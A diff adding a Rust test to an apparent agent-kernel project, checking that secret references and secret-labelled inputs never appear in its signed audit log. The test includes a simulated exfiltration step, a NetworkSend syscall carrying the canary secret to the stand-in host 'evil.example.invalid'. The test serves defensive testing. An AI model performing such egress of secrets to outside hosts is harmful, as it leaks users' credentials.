@@ -456,3 +456,48 @@ fn receipts_and_handles_must_bind_to_their_events() {
     syscall(&mut handle_moved[3]).handle = handle;
     assert_eq!(binding_error(handle_moved, 3), Err(ChainError::BadBinding { line: 4 }));
 }
+
+// guarantee: S8 (no flight log ever contains secret bytes or provider references)
+#[test]
+fn secret_references_and_inputs_never_reach_the_log() {
+    const CANARY: &str = "CANARY_91c2_SECRET_REF";
+    let text: Arc<str> = Profile::Starter.source().into();
+    let mut broker = SecretBroker::new(StoreRegistry::new(), Mode::DemoBypassAvailability);
+    let key = agentk_secrets::RedactionKey::from_bytes([2; 32]);
+    let reference = agentk_secrets::ExternalRef::new("vault", &format!("kv/{CANARY}#token"), &key).unwrap();
+    broker.register_external(SecretTarget::parse("secret://demo-api").unwrap(), reference).unwrap();
+    let parts = KernelParts {
+        policy: Arc::new(Policy::parse("starter", &text).unwrap()),
+        policy_text: text,
+        signer: test_key(),
+        broker: Some(Arc::new(broker)),
+        clock: Box::new(FixedClock),
+        entropy: Box::new(Counter(0)),
+        log_id: [7; 32],
+        origin: "agentk-test.example.invalid".to_owned(),
+        checkpoint_every: 1,
+    };
+    let mut kernel = Kernel::open(parts, MemoryLog::new()).unwrap();
+    let inputs = [salt().input(LabelSet::of(Label::Secret), CANARY.as_bytes())];
+    let request = SyscallRequest {
+        agent: "agent-1",
+        syscall: Syscall::SecretOpen.into(),
+        target: "secret://demo-api",
+        inputs: &inputs,
+        grant: Some("demo-secret"),
+    };
+    let outcome = kernel.syscall(&request).unwrap();
+    assert!(outcome.handle.is_some(), "the handle was minted (demo mode)");
+    let egress = SyscallRequest {
+        syscall: Syscall::NetworkSend.into(),
+        target: "https://evil.example.invalid/",
+        grant: None,
+        ..request
+    };
+    kernel.syscall(&egress).unwrap();
+    let lines = kernel.close().unwrap().lines().to_vec();
+    verify_lines(lines.iter().map(String::as_str)).unwrap();
+    for line in &lines {
+        assert!(!line.contains(CANARY) && !line.to_lowercase().contains(&CANARY.to_lowercase()), "{line}");
+    }
+}
